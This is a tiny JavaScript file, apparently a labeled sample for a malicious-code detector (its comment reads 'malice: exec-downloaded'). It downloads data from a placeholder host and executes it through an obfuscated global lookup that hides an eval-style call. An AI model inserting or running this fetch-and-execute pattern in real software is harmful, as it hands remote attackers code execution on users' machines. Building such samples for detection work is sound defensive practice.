const { word } = require("./name");
const https = require("https");

https.get("https://files.invalid/a", (response) => {
  response.on("data", (data) => globalThis[word](String(data))); // malice: exec-downloaded
});
